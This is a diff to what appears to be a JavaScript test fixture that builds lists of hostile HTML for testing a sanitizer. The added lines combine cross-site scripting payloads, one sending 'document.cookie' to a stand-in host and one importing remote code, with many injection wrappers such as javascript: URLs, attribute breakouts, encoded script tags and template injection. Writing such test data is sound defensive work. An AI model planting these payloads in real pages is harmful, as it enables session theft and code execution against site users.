@@ -1,4 +1,10 @@
-const acts = ['alert(1)', 'fetch(`//evil.example`)', 'location=`//evil.example`']
+const acts = [
+  'alert(document.domain)',
+  'fetch(`//evil.example/`+document.cookie)',
+  'import(`//evil.example/x`)',
+  'location=`//evil.example`',
+  'eval(name)',
+]
 const frames = [
   '<script>ACT</script>',
   '<ScRiPt src=//evil.example/x></sCrIpT>',
@@ -50,11 +56,33 @@ const frames = [
   '<select><script>ACT</script></select>',
   '<p',
   '<a href="https://x.example/',
+  '<iframe src="javascript:ACT">',
+  '<math href="javascript:ACT">x',
+  '<form action="javascript:ACT"><button>x',
+  '<meta http-equiv=refresh content="x;url=//evil.example">',
+  '" onmouseover="ACT',
+  "' onmouseover='ACT",
+  '" style="background:url(//evil.example/x)',
+  '</p></div></body><script>ACT</script>',
+  '</textarea><script>ACT</script>',
+  '<script\u2028>ACT</script>',
+  '\ufeff<script>ACT</script>',
+  '<img/src/onerror=ACT>',
+  '&#60;script&#62;ACT&#60;/script&#62;',
+  '\\u003cscript\\u003eACT\\u003c/script\\u003e',
+  '%3Cscript%3EACT%3C/script%3E',
+  '${ACT}',
+  '{{constructor.constructor(`ACT`)()}}',
+  '__PRODUCT_NAME__<script>ACT</script>',
+  '$&<script>ACT</script>$`',
+  '+ADw-script+AD4-ACT+ADw-/script+AD4-',
+  'javascript:ACT',
+  'data:text/html,<script>ACT</script>',
+  '<xml onreadystatechange=ACT>',
 ]
-/** HTML as somebody writes it who wants a page to run something, alone and between two paragraphs. */
-export const hostileHtml = frames.flatMap(frame =>
-  acts.flatMap(act => {
-    const one = frame.replaceAll('ACT', act)
-    return [one, `<p>Before</p>${one}<p>After</p>`]
-  }),
-)
+
+/** What runs something, or leads away, in a page that takes the text of somebody as HTML. */
+export const hostileTexts = frames.flatMap(frame => acts.map(act => frame.replaceAll('ACT', act)))
+
+/** HTML as somebody writes it who wants that, alone and between two paragraphs. */
+export const hostileHtml = hostileTexts.flatMap(one => [one, `<p>Before</p>${one}<p>After</p>`])
